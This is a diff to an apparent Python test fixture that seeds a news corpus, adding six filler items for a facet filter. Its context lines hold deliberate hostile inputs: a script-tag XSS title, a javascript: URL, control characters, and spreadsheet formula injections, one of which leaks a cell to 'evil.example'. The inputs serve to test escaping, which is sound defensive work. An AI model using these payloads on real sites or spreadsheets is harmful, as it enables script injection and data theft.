@@ -15,6 +15,7 @@ HOSTILE_TITLE = '<script>window.__pwned = 1; alert(1)</script> Hostile <img src=
 HOSTILE_URL = "javascript:alert(document.domain)"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1, "Click") police formula'
 CONTROL_TITLE = "Bell \x07 and escape \x1b police control"
+EXTRA_TOPICS = 6
 RELATED_URL = "https://other.example/facial-follow-up"
 FACIAL_URL = "https://example.com/facial-recognition-ban"
 
@@ -63,6 +64,9 @@ def write_corpus(folder: Path) -> Path:
                provider="@SUM(1+1)", published="2019-05-05T05:05:05Z")
     write_seed(folder, "control.txt", title=CONTROL_TITLE, url="https://news.example/control",
                excerpt="bell \x07 in the excerpt", published="2022-12-31T23:59:59Z")
+    for i in range(EXTRA_TOPICS):  # a topic list long enough for the facet filter box
+        write_seed(folder, f"misc_{i}.txt", title=f"Miscellany number {i}", url=f"https://misc.example/{i}",
+                   topics=[f"Extra topic {i}"], published=f"2017-0{1 + i}-15T12:00:00Z")
     write_seed(folder, "undated.txt", title="An undated police note", url="https://news.example/undated", published=None)
     return folder
 
